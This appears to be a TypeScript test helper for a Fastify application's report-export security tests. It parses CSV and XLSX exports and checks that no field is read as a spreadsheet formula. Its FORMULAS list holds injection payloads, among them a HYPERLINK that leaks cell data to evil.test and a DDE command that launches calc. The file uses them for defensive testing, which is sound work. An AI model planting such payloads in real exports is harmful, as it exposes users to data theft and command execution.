import type { LightMyRequestResponse } from 'fastify';
import ExcelJS from 'exceljs';
import { expect } from 'vitest';
import type { TestApp } from '../build-app.js';

/**
 * Shared pieces of the reports attack files (reports-attacks.int.test.ts,
 * reports-model-attacks.int.test.ts): texts a hostile colleague or model puts where a report
 * shows them, and checks that an exported file carries none of them as a formula.
 */

/** What a spreadsheet would run or read as a formula (DESIGN 13: = + - @ tab CR). */
export const FORMULAS = [
  '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+SUM(1,2)',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
] as const;

/** The reports table, every business: equal before and after = nothing stored. */
export async function reportRows(t: TestApp): Promise<number> {
  const { rows } = await t.sql('select count(*)::int as n from reports');
  return (rows[0] as { n: number }).n;
}

/** The fields of a CSV (RFC 4180 quoting, CRLF inside quotes kept), the BOM left out. */
export function csvFields(text: string): string[] {
  const fields: string[] = [];
  let field = '';
  let isQuoted = false;
  const body = text.replace(/^\uFEFF/, '');
  for (let index = 0; index < body.length; index++) {
    const character = body[index] ?? '';
    if (isQuoted) {
      if (character === '"' && body[index + 1] === '"') {
        field += '"';
        index++;
      } else if (character === '"') isQuoted = false;
      else field += character;
    } else if (character === '"') isQuoted = true;
    else if (character === ',' || character === '\n') {
      fields.push(field.replace(/\r$/, ''));
      field = '';
    } else field += character;
  }
  if (field !== '') fields.push(field);
  return fields;
}

/** A number written as one (money, a change of -3.4) is no formula; anything else starting so is. */
const isFormula = (text: string) => /^[=+\-@\t\r]/.test(text) && !/^-?\d+(\.\d+)?$/.test(text);

/** Every CSV field that a spreadsheet would read as a formula (none expected). */
export function formulaFieldsOfCsv(text: string): string[] {
  return csvFields(text).filter(isFormula);
}

/** Every text cell of every sheet: the strings of the workbook as a spreadsheet reads them. */
export async function textCellsOfXlsx(body: Buffer): Promise<{ sheets: string[]; cells: string[] }> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as unknown as ArrayBuffer);
  const cells: string[] = [];
  for (const sheet of workbook.worksheets)
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.formula) cells.push(`=${cell.formula}`);
        else if (typeof cell.value === 'string') cells.push(cell.value);
      }),
    );
  return { sheets: workbook.worksheets.map((sheet) => sheet.name), cells };
}

/** Every text cell of the workbook that a spreadsheet would read as a formula (none expected). */
export async function formulaCellsOfXlsx(body: Buffer): Promise<string[]> {
  return (await textCellsOfXlsx(body)).cells.filter(isFormula);
}

/** A response's raw bytes (inject keeps them in rawPayload). */
export const bytesOf = (res: LightMyRequestResponse): Buffer => res.rawPayload;

/** Never a 5xx, and no stack or SQL in the body. */
export function expectNoServerError(res: LightMyRequestResponse, what: string): void {
  expect(res.statusCode, `${what}: ${res.body.slice(0, 300)}`).toBeLessThan(500);
  expect(res.body, what).not.toMatch(/\bat .*\.[jt]s:\d+|syntax error|relation "|pg_/);
}
